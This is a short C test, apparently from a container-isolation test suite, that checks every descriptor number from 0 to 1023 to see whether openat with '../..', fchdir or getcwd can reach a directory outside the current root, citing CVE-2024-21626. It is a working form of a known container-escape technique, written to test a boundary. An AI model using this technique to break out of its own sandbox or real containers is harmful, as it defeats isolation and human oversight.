// title: climb out by openat(fd, "../..") from every descriptor number there may be
// wall: descriptors
// source: CVE-2024-21626: cwd /proc/self/fd/7
#include "attack.h"

#include <sys/stat.h>

int
main(void)
{
    struct stat own, above;
    char cwd[256];
    unsigned n = 0;

    stat("/", &own);
    for (int fd = 0; fd < 1024; fd++) {
        int up = openat(fd, "../../../..", O_RDONLY | O_DIRECTORY);

        n += up >= 0;
        if (up >= 0 && fstat(up, &above) == 0 && (above.st_dev != own.st_dev || above.st_ino != own.st_ino)) {
            escaped("descriptor %d leads to another root", fd);
        }
        if (fchdir(fd) == 0 && syscall(SYS_getcwd, cwd, sizeof(cwd)) > 0 && cwd[0] != '/') {
            escaped("descriptor %d: working directory %s", fd, cwd);
        }
    }
    held("%u directories, none outside", n);
}
